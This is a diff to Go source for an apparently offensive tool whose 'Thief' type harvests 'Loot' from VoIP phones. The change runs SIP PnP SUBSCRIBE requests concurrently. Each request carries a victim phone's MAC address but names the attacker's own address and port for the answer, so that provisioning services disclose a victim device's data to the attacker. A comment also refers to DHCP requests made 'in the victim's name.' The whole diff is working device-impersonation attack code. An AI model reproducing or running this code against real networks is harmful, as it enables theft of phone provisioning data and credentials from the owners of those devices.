@@ -13,6 +13,7 @@ import (
 	"regexp"
 	"slices"
 	"strings"
+	"sync"
 	"time"
 
 	"github.com/insomniacslk/dhcp/dhcpv4"
@@ -113,32 +114,49 @@ func (t *Thief) byPnP(ctx context.Context, l *Loot, v *Phone) error {
 	if err != nil {
 		return err
 	}
+	type answer struct {
+		how string
+		all []byte
+	}
+	var asks sync.WaitGroup
+	answers := make(chan answer, 100)
 	for maker, form := range pnpForms() {
 		for _, to := range []*net.UDPAddr{group, {IP: t.Box.AsSlice(), Port: group.Port}} {
 			conn, err := net.ListenUDP("udp4", &net.UDPAddr{IP: t.Phone.Link().Addr.Addr().AsSlice()})
 			if err != nil {
 				return err
 			}
-			// The victim's MAC, and where to answer: the thief's own address.
-			asks := &Phone{MAC: v.MAC, link: t.Phone.Link()}
-			text := subscribe(form, asks, fmt.Sprintf("%d@thief", l.Tries))
-			text = strings.ReplaceAll(text, ":5059", fmt.Sprintf(":%d", conn.LocalAddr().(*net.UDPAddr).Port))
-			text = strings.ReplaceAll(strings.TrimLeft(text, "\n"), "\n", "\r\n")
-			_, err = conn.WriteToUDP([]byte(text), to)
-			var all []byte
-			buf := make([]byte, 4096)
-			conn.SetReadDeadline(time.Now().Add(pnpPatience))
-			for err == nil && ctx.Err() == nil {
-				var n int
-				if n, _, err = conn.ReadFromUDP(buf); err == nil {
-					all = append(all, buf[:n]...)
-				}
-			}
-			conn.Close()
-			t.got(l, fmt.Sprintf("SUBSCRIBE as %s with the MAC of %s to %s", maker, v, to), all)
+			asks.Go(func() {
+				defer conn.Close()
+				answers <- answer{fmt.Sprintf("SUBSCRIBE as %s with the MAC of %s to %s", maker, v, to), t.ask(ctx, conn, to, form, v)}
+			})
 		}
 	}
+	asks.Wait()
+	close(answers)
+	for a := range answers {
+		t.got(l, a.how, a.all)
+	}
 	return ctx.Err()
+}
+
+// ask sends one SUBSCRIBE with the victim's MAC and the thief's own address to answer to.
+func (t *Thief) ask(ctx context.Context, conn *net.UDPConn, to *net.UDPAddr, form string, v *Phone) []byte {
+	port := conn.LocalAddr().(*net.UDPAddr).Port
+	text := subscribe(form, &Phone{MAC: v.MAC, link: t.Phone.Link()}, fmt.Sprintf("%d@thief", port))
+	text = regexp.MustCompile(`:50[68][09]|:5059`).ReplaceAllString(text, fmt.Sprintf(":%d", port))
+	text = strings.ReplaceAll(strings.TrimLeft(text, "\n"), "\n", "\r\n")
+	_, err := conn.WriteToUDP([]byte(text), to)
+	var all []byte
+	buf := make([]byte, 4096)
+	conn.SetReadDeadline(time.Now().Add(pnpPatience))
+	for err == nil && ctx.Err() == nil {
+		var n int
+		if n, _, err = conn.ReadFromUDP(buf); err == nil {
+			all = append(all, buf[:n]...)
+		}
+	}
+	return all
 }
 
 // byDHCP asks for an address and for information in the victim's name, from a frame of the
